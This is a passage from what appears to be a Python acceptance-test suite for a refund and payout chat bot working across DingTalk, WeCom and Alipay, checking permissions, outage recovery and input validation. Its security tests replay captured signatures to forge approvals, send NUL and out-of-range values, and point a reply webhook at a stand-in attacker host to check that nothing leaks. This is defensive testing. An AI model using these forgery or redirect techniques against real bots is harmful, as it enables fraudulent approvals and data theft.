        1,
        f"sup1 types 通过 {handle} (a 钉钉 case) in the 企微 group",
        "refused: belongs to 钉钉售后群; no approval",
        f"reply «{short(answer, 70)}»; state {after['state']}",
        "属于「钉钉售后群」" in answer
        and after["state"] == "awaiting_review"
        and not run.approvals(refund["case_id"]),
    )
    # The ¥500 Alipay payout, paid "as fin1" through the sandbox before the fix.
    event = payout_event("500.00")
    status, _ = await run.post_event(event, at=0)
    payout = await run.settled(event["data"]["payout_id"])
    ph = payout["handle"]
    paid_before = len(run.p.alipay.paid())
    approved = await run.bot_say("sup1", f"通过 {ph}", FINANCE_CHAT)
    await run.settled(ph, lambda c: c["state"] == "approved", 10)
    _, _, elsewhere = await run.ding_say("fin1", f"打款确认 {ph}", at=1)
    by_approver = await run.bot_say("sup1", f"打款确认 {ph}", FINANCE_CHAT)
    await asyncio.sleep(1)
    mid = await run.settled(ph)
    transfers_mid = len(run.p.alipay.paid()) - paid_before
    run.report.add(
        1,
        f"fin1 打款确认 {ph} (财务群 payout) typed in 钉钉 group",
        "refused: belongs to 财务群; no Alipay transfer",
        f"reply «{short(elsewhere, 60)}»; state {mid['state']}; transfers {transfers_mid}",
        status == 202
        and "属于「财务群」" in elsewhere
        and mid["state"] == "approved"
        and transfers_mid == 0,
    )
    run.report.add(
        1,
        f"sup1 (approver) confirms {ph} in 财务群",
        "refused (two-person rule / not finance)",
        f"reply «{short(by_approver, 60)}» (sup1's 通过: «{short(approved, 30)}»)",
        mid["state"] == "approved" and transfers_mid == 0 and "没有确认打款的权限" in by_approver,
    )
    done = await run.bot_say("fin1", f"打款确认 {ph}", FINANCE_CHAT)
    final = await run.settled(ph, lambda c: c["state"] == "paid", 15)
    transfers = len(run.p.alipay.paid()) - paid_before
    run.report.add(
        1,
        f"control: fin1 confirms {ph} in its own group",
        "one Alipay transfer, state paid",
        f"state {final['state']}; transfers {transfers}; «{short(done, 40)}»",
        final["state"] == "paid" and transfers == 1,
    )


async def item2_no_silent_simulator(run: Run) -> None:
    """A third `serve` (SQLite, alone) with no [commerce]/[carrier]: nothing claims it was done."""
    plain = {
        "database": {"url": f"sqlite+aiosqlite:///{run.tmp / 'plain.db'}"},
        "bot": {"admin_group": "shop"},
        "groups": [
            {
                "id": "shop",
                "name": "售后群",
                "channel": "wecom_webhook",
                "webhook_url": run.p.wecom.webhook_url("plain-key"),
            },
        ],
        "staff": [{"id": "admin1", "roles": ["admin"], "wecom_userid": "wx_admin1"}],
        "digest": {"enabled": False},
        "dispatch": {"poll_s": 0.2},
    }
    path = run.tmp / "plain.toml"
    path.write_text(toml(plain), encoding="utf-8")
    env = {**os.environ, "REFUNDOPS_INGEST__SECRET": SECRET}
    third = await start_instance("outside-plain", path, env, run.logs)
    run.extra.append(third)
    try:
        await ready(run.http, third)
        unshipped = refund_event("plain-shop", "40.00", shipping={"status": "unshipped"})
        parcel = refund_event("plain-shop", "60.00", shipping=shipped("SF70000001"))
        for event in (unshipped, parcel):
            body = json.dumps(event, ensure_ascii=False).encode()
            headers = {
                "Content-Type": "application/json",
                **signed_headers(SECRET, int(time.time()), body),
            }
            async with run.http.post(f"{third.url}/api/v1/events", data=body, headers=headers) as r:
                assert r.status == 202, await r.text()

        async def state(ref: str) -> str:
            path = f"/api/v1/cases/{ref}"
            ts = int(time.time())
            headers = {
                TIMESTAMP_HEADER: str(ts),
                SIGNATURE_HEADER: sign(SECRET, ts, b"", target=f"GET {path}"),
            }
            async with run.http.get(f"{third.url}{path}", headers=headers) as r:
                return str((await r.json())["state"]) if r.status == 200 else ""

        async def both() -> tuple[str, str] | None:
            states = (await state(unshipped["data"]["refund_id"]), await state("X1"))
            return states if states == ("manual_refund", "manual") else None

        await await_until(both, 15)
        states = (await state(unshipped["data"]["refund_id"]), await state("X1"))
        await wait(lambda: len(run.p.wecom.webhook_messages["plain-key"]) >= 2, 10)
        await asyncio.sleep(1)
        sent = "\n".join(m["content"] for m in run.p.wecom.webhook_messages["plain-key"])
        claims = [w for w in ("已退款", "已截单", "快递已受理") if w in sent]
        says = [w for w in ("手动退款", "请电话联系快递拦截") if w in sent]
        run.report.add(
            2,
            "serve without [commerce]/[carrier]: unshipped + shipped refund",
            "states manual_refund / manual; cards say 手动退款 / 请电话联系快递拦截; no 已退款/已截单",
            f"states {states}; says {says}; false claims {claims}",
            states == ("manual_refund", "manual") and not claims and len(says) == 2,
        )
    finally:
        await stop(third)


async def item3_hand_recorded_intercept(run: Run) -> None:
    tracking = f"SF3{uuid.uuid4().int % 10**9:09d}"
    refund = await run.new_refund(
        refund_event("ding-shop", "1800.00", shipping=shipped(tracking)), at=0
    )
    rid, handle = refund["case_id"], refund["handle"]

    def intercept_card() -> FakeCard | None:
        return next(
            (
                c
                for c in run.p.ding.cards.values()
                if c.params.get("kind") == "intercept"
                and c.space_id.endswith(DING_CHAT)
                and tracking in json.dumps(c.params, ensure_ascii=False)
            ),
            None,
        )

    card = await wait(intercept_card, 15)
    if card is None:
        raise RuntimeError(f"no intercept card for {tracking}")
    xh = card.params["handle"]
    _, _, answer = await run.ding_say("agent1", f"拦截成功 {xh} 电话确认", at=1)
    await asyncio.sleep(1.5)
    after = await run.settled(rid)
    shown = run.ding_card(handle)
    told = answer + "\n" + json.dumps(shown.params if shown else {}, ensure_ascii=False)
    mentioned = {w for w in APPROVERS if f"ding-{w}" in told or f"@{w}" in told}
    run.report.add(
        3,
        f"agent1 (¥50) records 拦截成功 {xh} on a ¥1,800 shipped refund",
        "no approve_refund; refund waits (escalated), approvers @-mentioned",
        f"state {after['state']}; approvals {run.approvals(rid)}; mentions {sorted(mentioned)}",
        after["state"] in ("escalated", "awaiting_review")
        and not run.approvals(rid)
        and bool(mentioned),
    )
    # The buttons and commands that also end in approve_refund, by the same agent.
    status, _, told_tap = await run.ding_tap("agent1", handle, "approve", at=0)
    cmd = (await run.ding_say("agent1", f"通过 {handle}", at=1))[2]
    await asyncio.sleep(1)
    still = await run.settled(rid)
    run.report.add(
        3,
        f"agent1 taps 通过 / types 通过 {handle} (¥1,800)",
        "refused (超出权限), no approve_refund",
        f"tap {status} «{short(told_tap, 40)}»; cmd «{short(cmd, 40)}»; state {still['state']}",
        not run.approvals(rid) and still["state"] in ("escalated", "awaiting_review"),
    )
    await run.ding_say("sup1", f"通过 {handle}", at=0)
    final = await run.settled(rid, lambda c: c["state"] == "refunded", 15)
    run.report.add(
        3,
        f"control: sup1 approves {handle} after that",
        "refunded, exactly one approve_refund (¥1,800.00)",
        f"state {final['state']}; approvals {run.approvals(rid)}",
        final["state"] == "refunded" and run.approvals(rid) == ["1800.00"],
    )
    # 重试 of a failed ¥1,800 refund by the agent.
    refund = await run.new_refund(refund_event("ding-shop", "1800.00"), at=1)
    rid, handle = refund["case_id"], refund["handle"]
    run.p.commerce.refuse["approve_refund"] = "余额不足"
    try:
        await run.ding_say("sup1", f"通过 {handle}", at=1)
        failed = await run.settled(rid, lambda c: c["state"] == "failed", 15)
    finally:
        run.p.commerce.refuse.clear()
    _, _, retry = await run.ding_say("agent1", f"重试 {handle}", at=0)
    await asyncio.sleep(1.5)
    after = await run.settled(rid)
    run.report.add(
        3,
        f"agent1 types 重试 {handle} (failed ¥1,800 refund)",
        "no approve_refund; waits for an approver",
        f"was {failed['state']}; now {after['state']}; approvals {run.approvals(rid)}; "
        f"«{short(retry, 40)}»",
        failed["state"] == "failed" and not run.approvals(rid) and after["state"] != "refunded",
    )
    # The QC-passed button of a ¥1,800 return the warehouse has received.
    refund = await run.new_refund(refund_event("ding-shop", "1800.00", kind="return_refund"), at=0)
    rid, handle = refund["case_id"], refund["handle"]
    await run.post_event(about(rid, "refund.updated", return_status="received"), at=1)
    inspecting = await run.settled(rid, lambda c: c["state"] == "inspecting", 10)
    status, _, told = await run.ding_tap("agent1", handle, "approve", at=1)
    await asyncio.sleep(1.5)
    after = await run.settled(rid)
    run.report.add(
        3,
        f"agent1 taps 验收通过 on {handle} (¥1,800 return, inspecting)",
        "no approve_refund; waits for an approver",
        f"was {inspecting['state']}; tap {status} «{short(told, 40)}»; now {after['state']}; "
        f"approvals {run.approvals(rid)}",
        inspecting["state"] == "inspecting"
        and not run.approvals(rid)
        and after["state"] not in ("refunded", "approved", "submitted"),
    )


async def item3_batch_card(run: Run) -> None:
    """全部通过 on a batch card (the AI-bot group's budget runs short and 12 cards fold)."""
    small = [refund_event("bot-shop", "40.00") for _ in range(11)]
    big = refund_event("bot-shop", "1800.00")
    before = len(run.bot_markdown())
    for n, event in enumerate([*small, big]):
        status, answer = await run.post_event(event, at=n)
        if status != 202:
            raise RuntimeError(f"refund not accepted: {status} {answer}")
    folds = await wait(
        lambda: [m for m in run.bot_markdown()[before:] if "已合并为一张卡片" in m], 60, step=0.5
    )
    if not folds:
        raise RuntimeError("no batch card in the AI-bot group")
    match = re.search(r"已合并为一张卡片 (F\d+)", folds[0])
    assert match is not None
    key = match.group(1)
    rid = big["data"]["refund_id"]
    case = await run.settled(rid)
    in_fold = re.search(rf"\b{case['handle']}\b", folds[0]) is not None
    reply = await run.bot_say("agent1", f"全部通过 {key}", BOT_CHAT)
    await asyncio.sleep(2)
    after = await run.settled(rid)
    approved = sum(1 for e in small if run.approvals(e["data"]["refund_id"]))
    run.report.add(
        3,
        f"agent1 全部通过 {key} (batch card holding the ¥1,800 {case['handle']})",
        "the ¥40 ones approved; the ¥1,800 one left, approvers named",
        f"in batch {in_fold}; «{short(reply, 60)}»; ¥1,800 state {after['state']}, "
        f"approvals {run.approvals(rid)}; ¥40 approved {approved}",
        in_fold and not run.approvals(rid) and after["state"] == "awaiting_review",
    )


async def item4_dingtalk_replay(run: Run) -> None:
    refund = await run.new_refund(refund_event("ding-shop", "1500.00"), at=0)
    rid, handle = refund["case_id"], refund["handle"]
    ding = run.p.ding
    captured = ding.robot_headers()
    genuine, _, _ = await run.ding_say("agent1", f"查 {handle}", at=0, headers=captured)
    forged_status, forged_answer, _ = await run.ding_say(
        "sup1", f"通过 {handle}", at=1, headers=captured, createAt=int(captured["timestamp"])
    )
    run.report.add(
        4,
        "replay a captured robot sign with a forged 通过 as sup1 (other instance)",
        "401 already used; not approved",
        f"genuine {genuine}; forged {forged_status} «{short(forged_answer, 50)}»",
        genuine == 200 and forged_status == 401 and "already used" in forged_answer,
    )
    then = ding.now_ms() - 301_000
    old, old_answer, _ = await run.ding_say(
        "sup1", f"通过 {handle}", at=0, headers=ding.robot_headers(at_ms=then), createAt=then
    )
    run.report.add(
        4,
        "robot message signed 301 s ago",
        "401 (300 s window)",
        f"{old} «{short(old_answer, 60)}»",
        old == 401 and "300 s" in old_answer,
    )
    results = []
    for name, fields in (
        ("chatbotCorpId of another corp", {"chatbotCorpId": "dingOTHERCORP"}),
        ("senderCorpId of another corp", {"senderCorpId": "dingOTHERCORP"}),
        ("robotCode of another robot", {"robotCode": "dingOTHERROBOT"}),
        ("createAt 10 min off the signature", {"createAt": ding.now_ms() + 600_000}),
    ):
        status, answer, _ = await run.ding_say("sup1", f"通过 {handle}", at=1, **fields)
        results.append((name, status, short(answer, 40)))
    run.report.add(
        4,
        "signed robot message with a body not ours (corp, robot, createAt)",
        "401 each",
        "; ".join(f"{n}: {s}" for n, s, _ in results),
        all(s == 401 for _, s, _ in results),
    )
    unsigned_raw = json.dumps(
        ding.robot_message(f"通过 {handle}", sender_staff_id="ding-sup1", conversation_id=DING_CHAT)
    ).encode()
    unsigned, _ = await run.request(
        "POST", 0, "/dingtalk/robot", unsigned_raw, {"Content-Type": "application/json"}
    )
    run.report.add(4, "unsigned robot message as sup1", "401", f"{unsigned}", unsigned == 401)
    evil = run.p.urls["attacker"] + "/robot/sendBySession?session=stolen"
    mark = run.ding_mark()
    status, _, words = await run.ding_say("fin1", f"查 {handle}", at=0, sessionWebhook=evil)
    await asyncio.sleep(0.5)
    went = run.ding_said(mark)
    run.report.add(
        4,
        "sessionWebhook in the body points at an attacker host",
        "nothing reaches the attacker; answer by the open API to the group",
        f"{status}; attacker got {len(run.p.attacker)}; answered {len(went)}× «{short(words, 40)}»",
        status == 200 and not run.p.attacker and len(went) >= 1,
    )
    # Card callbacks (HTTP mode).
    card = run.ding_card(handle)
    assert card is not None
    tap = ding.click_payload(card.out_track_id, "ding-sup1", "approve")
    raw = json.dumps(tap).encode()
    robot_signed, _ = await run.request(
        "POST",
        1,
        "/dingtalk/card",
        raw,
        {**ding.robot_headers(), "Content-Type": "application/json"},
    )
    captured_card = ding.card_headers(card.out_track_id)
    claim, _, _ = await run.ding_tap("agent1", handle, "claim", at=0, headers=captured_card)
    replayed, _, _ = await run.ding_tap("sup1", handle, "approve", at=1, headers=captured_card)
    corp, _, _ = await run.ding_tap(
        "sup1", handle, "approve", at=0, payload=tap | {"corpId": "dingOTHERCORP"}
    )
    secret = str(next(iter(ding.registrations.values()))["apiSecret"])
    ts = str(ding.now_ms())
    foreign_headers = {
        CARD_TIMESTAMP_HEADER: ts,
        CARD_SIGN_HEADER: card_sign(secret, ts),
        "Content-Type": "application/json",
    }
    foreign = json.dumps(tap | {"outTrackId": "refund-R1"}).encode()
    not_ours, _ = await run.request("POST", 1, "/dingtalk/card", foreign, foreign_headers)
    await asyncio.sleep(1)
    after = await run.settled(rid)
    approvals = history(after, "approve")
    run.report.add(
        4,
        "card tap: robot headers / replayed card sign / other corpId / old deployment's card",
        "401 / 401 / 401 / 404; not approved",
        f"{robot_signed} / {replayed} / {corp} / {not_ours} (genuine claim {claim}); "
        f"approvals {approvals}",
        (robot_signed, replayed, corp, not_ours) == (401, 401, 401, 404)
        and claim == 200
        and not approvals
        and not run.approvals(rid),
    )


async def item5_redis_outage(run: Run) -> None:
    dead_before = await dead_counts(run)
    ops_before = len(run.p.wecom.webhook_messages["ops-key"])
    a_subscribed = [i.text().count("Redis wake-up listener subscribed") for i in run.instances]
    run.p.carrier.fail_next = 1000
    await run.proxy.cut()
    cut_at = time.monotonic()
    events = [refund_event("ding-shop", "20.00") for _ in range(6)]
    events += [refund_event("bot-shop", "20.00") for _ in range(2)]
    parcel = refund_event("ding-shop", "30.00", shipping=shipped(f"SF5{uuid.uuid4().int % 10**9}"))
    statuses = []
    ready_during = []
    for n, event in enumerate([*events, parcel]):
        statuses.append((await run.post_event(event, at=n))[0])
    for at in (0, 1):
        ready_during.append((await run.request("GET", at, "/readyz"))[0])
    await asyncio.sleep(max(0.0, 20 - (time.monotonic() - cut_at)))
    dead_during = await dead_counts(run)
    run.proxy.restore()
    restored = time.monotonic()

    handles: dict[str, str] = {}

    async def delivered() -> list[str]:
        done = []
        for event in events:
            rid = event["data"]["refund_id"]
            if rid not in handles:
                case = await run.case(rid)
                if case is None or case["case_id"] != rid:
                    continue
                handles[rid] = case["handle"]
            card = (
                run.ding_card(handles[rid])
                if event["shop"] == "ding-shop"
                else run.bot_card(handles[rid])
            )
            if card:
                done.append(rid)
        return done

    async def all_delivered() -> bool:
        return len(await delivered()) == len(events)

    await await_until(all_delivered, 40, step=0.5)
    took = time.monotonic() - restored
    run.p.carrier.fail_next = 0
    ready_after = [(await run.request("GET", at, "/readyz"))[0] for at in (0, 1)]
    notice = await wait(
        lambda: any(
            "快递拦截申请" in m["content"]
            for m in run.p.wecom.webhook_messages["ops-key"][ops_before:]
        ),
        20,
    )
    await asyncio.sleep(1)
    dead_after = await dead_counts(run)

    def resubscribed() -> list[int] | None:
        now = [i.text().count("Redis wake-up listener subscribed") for i in run.instances]
        return now if all(n > b for n, b in zip(now, a_subscribed, strict=True)) else None

    await wait(resubscribed, 30, step=0.5)
    listened = time.monotonic() - restored
    subscribed = [i.text().count("Redis wake-up listener subscribed") for i in run.instances]
    lost = [i.text().count("Redis wake-up listener lost its connection") for i in run.instances]
    stray = [i.text().count("never retrieved") for i in run.instances]
    deliveries_dead = {k: v for k, v in dead_after.items() if k in ("card", "text", "notice")}
    shown = len(await delivered())
    run.report.add(
        5,
        "Redis cut 20 s (both instances), 8 cards + 1 intercept created meanwhile",
        "202s; readyz 503 then 200; all 8 cards delivered; no card/text dead-lettered",
        f"ingest {sorted(set(statuses))}; readyz {ready_during}→{ready_after}; delivered "
        f"{shown}/8 {took:.0f}s after restore; dead during {dead_during}, "
        f"after {dead_after} (was {dead_before})",
        set(statuses) == {202}
        and ready_during == [503, 503]
        and ready_after == [200, 200]
        and shown == len(events)
        and all(deliveries_dead.get(k, 0) == dead_before.get(k, 0) for k in deliveries_dead),
    )
    run.report.add(
        5,
        "carrier 500s during the outage: its dead-letter notice to the admin group",
        "the intercept is given up, the notice itself reaches 管理群",
        f"carrier.intercept dead {dead_after.get('carrier.intercept', 0)}; "
        f"notice {'delivered' if notice else 'missing'}",
        bool(notice),
    )
    run.report.add(
        5,
        "wake-up listener after the outage (instance logs)",
        "lost → subscribed again on both; no 'never retrieved'",
        f"subscribed {a_subscribed}→{subscribed} ({listened:.0f} s after restore); lost {lost}; "
        f"never-retrieved {stray}",
        all(s > b for s, b in zip(subscribed, a_subscribed, strict=True))
        and all(n == 0 for n in stray),
    )
    # outbox requeue: a card DingTalk keeps refusing is dead-lettered, then requeued by the CLI.
    path = "/v1.0/card/instances/createAndDeliver"
    run.p.ding.fail_next[path] = 1000
    refund = refund_event("ding-shop", "21.00")
    await run.post_event(refund, at=0)
    rid = refund["data"]["refund_id"]

    async def card_dead() -> bool:
        return (await dead_counts(run)).get("card", 0) > dead_before.get("card", 0)

    buried = await await_until(card_dead, 30, step=0.5)
    run.p.ding.fail_next[path] = 0
    money = await cli(
        run.env, "outbox", "requeue", "--config", str(run.config), "--kind", "payout.transfer"
    )
    requeued = await cli(
        run.env,
        "outbox",
        "requeue",
        "--config",
        str(run.config),
        "--kind",
        "card",
        "--since",
        "10m",
    )
    card = await wait(
        lambda: [c for c in run.p.ding.cards.values() if c.params.get("case_id") == rid], 20
    )
    run.report.add(
        5,
        "`refundops outbox requeue` (card dead after DingTalk 503s; payout.transfer)",
        "payout.transfer refused (exit 2); card requeued and delivered",
        f"dead {'yes' if buried else 'no'}; payout.transfer exit {money.code}; card: exit "
        f"{requeued.code} «{short(requeued.out, 50)}»; delivered {bool(card)}",
        bool(buried)
        and money.code == 2
        and requeued.code == 0
        and "requeued 1" in requeued.out
        and bool(card),
    )
    agent = (await run.ding_say("agent1", "重发死信 card 10m", at=0))[2]
    admin = (await run.ding_say("admin1", "重发死信 card 10m", at=1))[2]
    run.report.add(
        5,
        "重发死信 typed by agent1, then by admin1",
        "refused for the agent; admins may",
        f"agent «{short(agent, 45)}»; admin «{short(admin, 45)}»",
        "已重发" not in agent and "已重发" in admin,
    )


DEAD = re.compile(r'refundops_dispatched_total\{kind="([^"]+)",result="dead"\} ([0-9.e+]+)')


async def dead_counts(run: Run) -> dict[str, int]:
    """Dead-lettered outbox items: `all` from the outbox gauge, and by kind as the live
    instances counted them (/metrics)."""
    counts: dict[str, int] = {}
    for at, instance in enumerate(i for i in run.instances if i.alive):
        status, body = await run.request("GET", at, "/metrics")
        if status != 200:
            raise RuntimeError(f"/metrics of {instance.name}: {status}")
        if at == 0:
            total = re.search(r'refundops_outbox_depth\{state="dead"\} ([0-9.e+]+)', body)
            counts["all"] = int(float(total.group(1))) if total else 0
        for kind, n in DEAD.findall(body):
            counts[kind] = counts.get(kind, 0) + int(float(n))
    return counts


async def item6_aibot_one_connection(run: Run) -> None:
    aibot = run.p.aibot
    subscribed0, _, since = run.aibot_window
    if time.monotonic() - since < 10:
        await asyncio.sleep(10 - (time.monotonic() - since))
    window = time.monotonic() - since
    subscribed = aibot.subscribed - subscribed0
    holders = [i.name for i in run.instances if i.holds_aibot()]
    run.report.add(
        6,
        f"two instances, one AI bot, watched {window:.0f} s",
        "one subscription, no kicks, one holder",
        f"subscriptions {aibot.subscribed} (+{subscribed} in window); kicks {aibot.kicked}; "
        f"holders {holders}",
        aibot.subscribed == 1 and aibot.kicked == 0 and len(holders) == 1,
    )
    if len(holders) != 1:
        return
    holder = next(i for i in run.instances if i.name == holders[0])
    other = next(i for i in run.instances if i is not holder)
    before = aibot.subscribed
    holder.proc.send_signal(signal.SIGKILL)
    await holder.proc.wait()
    killed = time.monotonic()
    taken = await wait(lambda: aibot.online and other.holds_aibot(), LEASE_S * 5)
    took = time.monotonic() - killed
    refund = refund_event("bot-shop", "20.00")
    status, _ = await run.post_event(refund, at=0)
    case = await run.settled(refund["data"]["refund_id"], within=15)
    card = await wait(lambda: [c for c in [run.bot_card(case["handle"])] if c], 20)
    await asyncio.sleep(1)
    titles = [
        c["main_title"]["title"]
        for _, b in aibot.messages
        if b.get("msgtype") == "template_card"
        for c in [b["template_card"]]
    ]
    run.report.add(
        6,
        f"kill -9 the holder ({holder.name}); the other takes over",
        f"{other.name} connects within ~{LEASE_S * 2:.0f} s, no kick; a new card is posted once",
        f"took over {'yes' if taken else 'NO'} in {took:.1f} s; subscriptions {before}→"
        f"{aibot.subscribed}; kicks {aibot.kicked}; card posted {len(card or [])}×; "
        f"duplicate titles {len(titles) - len(set(titles))}",
        bool(taken)
        and took < LEASE_S * 3
        and aibot.kicked == 0
        and status == 202
        and len(card or []) == 1
        and len(titles) == len(set(titles)),
    )


async def item7_card_ids(run: Run) -> None:
    old = [c for c in run.p.ding.cards.values() if c.space_id.endswith(OLD_CHAT)]
    touched = [
        c.out_track_id for c in old if c.updates or c.params["title"].startswith("旧") is False
    ]
    ours = [c for c in run.p.ding.cards.values() if c.space_id.endswith(DING_CHAT)]
    bare = [c.out_track_id for c in ours if re.fullmatch(r"[a-z]+-[A-Z]+\d+", c.out_track_id)]
    handles = sorted({c.params["handle"] for c in ours})
    clash = [
        h
        for h in handles
        if f"refund-{h}" in run.p.ding.cards or f"intercept-{h}" in run.p.ding.cards
    ]
    run.report.add(
        7,
        f"{len(ours)} cards of this deployment; another's refund-R1…R60 exist",
        "random-suffix outTrackIds; no old card updated",
        f"ours {len(ours)} (handles {handles[0] if handles else '-'}…{handles[-1] if handles else '-'}, "
        f"{len(clash)} clash with old ids); bare ids {len(bare)}; old cards touched {len(touched)}",
        bool(ours) and not bare and not touched and bool(clash),
    )


async def item8_bad_event_alone(run: Run) -> None:
    poisons: list[tuple[str, Callable[[dict[str, Any]], None], str]] = [
        ("id with NUL", lambda e: e.update(id="evt_nul\x00x"), "id"),
        (
            "occurred_at year 1",
            lambda e: e.update(occurred_at="0001-01-01T00:00:00+08:00"),
            "occurred_at",
        ),
        (
            "occurred_at year 9999",
            lambda e: e.update(occurred_at="9999-12-31T23:00:00-08:00"),
            "occurred_at",
        ),
    ]
    for n, (name, poison, field_name) in enumerate(poisons):
        valid = [tracking_event(i) for i in range(39)]
        bad = refund_event("ding-shop")
        poison(bad)
        events = [*valid[:20], bad, *valid[20:]]
        answers = await asyncio.gather(*(run.post_event(e, at=n, ascii_only=True) for e in events))
        status, answer = answers[20]
        others = [s for s, _ in answers[:20] + answers[21:]]
        fields = (
            [f.get("field") for f in answer.get("fields", [])] if isinstance(answer, dict) else []
        )
        run.report.add(
            8,
            f"40 concurrent events, one with {name}",
            f"poison 400 naming {field_name}; 39 × 202",
            f"poison {status} {fields}; others { {s: others.count(s) for s in set(others)} }",
            status == 400 and field_name in fields and others == [202] * 39,
        )


async def item9_202_means_applied(run: Run) -> None:
    long = {"carrier": "C" * 33}
    cases: list[tuple[str, dict[str, Any], str]] = [
        ("amount 1e18", refund_event("ding-shop", "1e18"), "data.amount"),
        (
            "order_amount ¥100,000,000.01",
            refund_event("ding-shop", "10.00", "100000000.01"),
            "data.order_amount",
        ),
        (
            "tracking carrier 33 chars",
            tracking_event(1) | {"data": tracking_event(1)["data"] | long},
            "data.carrier",
        ),
        (
            "tracking_no 65 chars",
            tracking_event(2) | {"data": tracking_event(2)["data"] | {"tracking_no": "T" * 65}},
            "data.tracking_no",
        ),
        (
            "payout requested_by 65",
            payout_event("10.00", requested_by="r" * 65),
            "data.requested_by",
        ),
        (
            "payee name 129",
            payout_event("10.00", payee={"name": "名" * 129, "account": "1380013800"}),
            "data.payee.name",
        ),
        ("payout order_id 129", payout_event("10.00", order_id="O" * 129), "data.order_id"),
        ("payout amount 1e18", payout_event("1e18"), "data.amount"),
        (
            "deadline 9999",
            refund_event("ding-shop", deadline_at="9999-12-31T23:59:59-12:00"),
            "data.deadline_at",
        ),
        (
            "occurred_at 2100",
            refund_event("ding-shop") | {"occurred_at": "2100-01-01T00:00:00Z"},
            "occurred_at",
        ),
        ("reason with NUL", refund_event("ding-shop", reason="尺码\x00不合适"), "data.reason"),
    ]
    refused: list[tuple[str, int, bool]] = []
    for name, event, field_name in cases:
        status, answer = await run.post_event(event, at=len(refused), ascii_only=True)
        fields = (
            [f.get("field") for f in answer.get("fields", [])] if isinstance(answer, dict) else []
        )
        refused.append((name, status, field_name in fields))
    wrong = [
        f"{n}: {s}{'' if named else ' (field not named)'}"
        for n, s, named in refused
        if s != 400 or not named
    ]
    run.report.add(
        9,
        f"{len(cases)} events storage cannot hold (amount, lengths, dates, NUL)",
        "400 naming the field, each",
        "all 400, field named" if not wrong else "; ".join(wrong),
        not wrong,
    )
    limit = payout_event(
        "12.00", requested_by="r" * 64, payee={"name": "名" * 128, "account": "13800138000"}
    )
    status, _ = await run.post_event(limit, at=1)
    applied = await run.settled(limit["data"]["payout_id"], within=15)
    run.report.add(
        9,
        "payout at the column limits (payee name 128, requested_by 64)",
        "202 and applied (a case)",
        f"{status}; case {applied['handle']} {applied['state']}",
        status == 202 and applied["state"] == "requested",
    )


async def item9_cancel_before_refund(run: Run, refund: dict[str, Any], posted_at: float) -> None:
    gap = time.monotonic() - posted_at
    status, _ = await run.post_event(refund, at=0)
    rid = refund["data"]["refund_id"]
    case = await run.settled(rid, lambda c: c["state"] == "cancelled", 15)
    await asyncio.sleep(2)
    case = await run.settled(rid)
    steps = [(h["actor"], h["action"]) for h in case["history"]]
    run.report.add(
        9,
        f"refund.cancelled sent {gap:.0f} s before its (unshipped) refund",
        "refund ends cancelled, never approved",
        f"{status}; state {case['state']}; history {steps}; approvals {run.approvals(rid)}",
        case["state"] == "cancelled" and not run.approvals(rid) and gap >= 20,
    )


async def item10_amounts(run: Run) -> None:
    refund = await run.new_refund(refund_event("ding-shop", "40.00", "128.00"), at=0)
    rid, handle = refund["case_id"], refund["handle"]
    await run.ding_say("agent1", f"通过 {handle}", at=0)
    await run.settled(rid, lambda c: c["state"] == "refunded", 15)
    status, _ = await run.post_event(about(rid, "refund.updated", amount="4800.00"), at=1)
    after = await run.settled(rid, lambda c: "amount_refused" in history(c), 10)
    run.report.add(
        10,
        f"refund.updated ¥40 → ¥4,800 (order ¥128) after {handle} was refunded",
        "amount refused (amount_refused), ERP got ¥40.00 only",
        f"{status}; amount {after['amount']}; refused {'amount_refused' in history(after)}; "
        f"ERP {run.approvals(rid)}",
        "amount_refused" in history(after)
        and after["amount"] == "40.00"
        and run.approvals(rid) == ["40.00"],
    )
    both, answer = await run.post_event(
        about(rid, "refund.updated", amount="4800.00", order_amount="128.00"), at=0
    )
    fields = [f.get("field") for f in answer.get("fields", [])] if isinstance(answer, dict) else []
    run.report.add(
        10,
        "refund.updated with amount ¥4,800 > its own order_amount ¥128",
        "400 data.order_amount",
        f"{both} {fields}",
        both == 400 and "data.order_amount" in fields,
    )
    # Raised while the ERP call is under way: the ERP keeps the approved ¥40.
    refund = await run.new_refund(refund_event("ding-shop", "40.00", "5000.00"), at=1)
    rid, handle = refund["case_id"], refund["handle"]
    commerce = run.p.commerce
    commerce.gate = asyncio.Event()
    try:
        await run.ding_say("agent1", f"通过 {handle}", at=1)
        calling = await wait(
            lambda: [
                r
                for r in commerce.requests
                if r["action"] == "approve_refund" and r["data"]["refund_id"] == rid
            ],
            10,
        )
        await run.post_event(about(rid, "refund.updated", amount="4800.00"), at=0)
        raised = await run.settled(rid, lambda c: c["amount"] == "4800.00", 6)
    finally:
        commerce.gate.set()
        commerce.gate = None
    final = await run.settled(rid, lambda c: c["state"] == "refunded", 15)
    await asyncio.sleep(1.5)
    calls = [
        r["data"].get("amount")
        for r in commerce.requests
        if r["action"] == "approve_refund" and r["data"]["refund_id"] == rid
    ]
    run.report.add(
        10,
        f"amount raised ¥40 → ¥4,800 while {handle}'s ERP call is in flight",
        "ERP gets ¥40.00 once, never ¥4,800; case flagged",
        f"in flight {bool(calling)}; raised seen {raised['amount']}; ERP calls {calls}; "
        f"performed {run.approvals(rid)}; state {final['state']}",
        bool(calling) and run.approvals(rid) == ["40.00"] and "4800.00" not in calls,
    )
    # Raised after the approval's first ERP call failed (the shop's system answers 500 twice),
    # before its retry. From outside this is the closest to "approved, not yet sent": the
    # dispatcher sends an approval the moment it is made. A call that went out may have acted,
    # so the change is flagged (the retry keeps ¥40) or, had nothing gone out, review reopens.
    refund = await run.new_refund(refund_event("ding-shop", "40.00", "5000.00"), at=0)
    rid, handle = refund["case_id"], refund["handle"]

    def erp_calls() -> list[str]:
        return [
            str(r["data"].get("amount"))
            for r in commerce.requests
            if r["action"] == "approve_refund" and r["data"]["refund_id"] == rid
        ]

    commerce.fail_next = 2
    try:
        await run.ding_say("agent1", f"通过 {handle}", at=0)
        await wait(erp_calls, 10, step=0.02)
        await run.post_event(about(rid, "refund.updated", amount="4800.00"), at=1)
        await run.settled(rid, lambda c: c["amount"] == "4800.00", 8)
        await asyncio.sleep(4)
    finally:
        commerce.fail_next = 0
    mid = await run.settled(rid)
    words = []
    if mid["state"] == "awaiting_review":
        for who in ("agent1", "sup1", "admin1"):
            words.append(
                f"{who} «{short((await run.ding_say(who, f'通过 {handle}', at=1))[2], 30)}»"
            )
            await asyncio.sleep(1)
            words[-1] += f" → ERP {run.approvals(rid)}"
    final = await run.settled(rid, lambda c: c["state"] == "refunded", 15)
    outcome = "reopened" if "reopen" in history(mid) else "flagged"
    run.report.add(
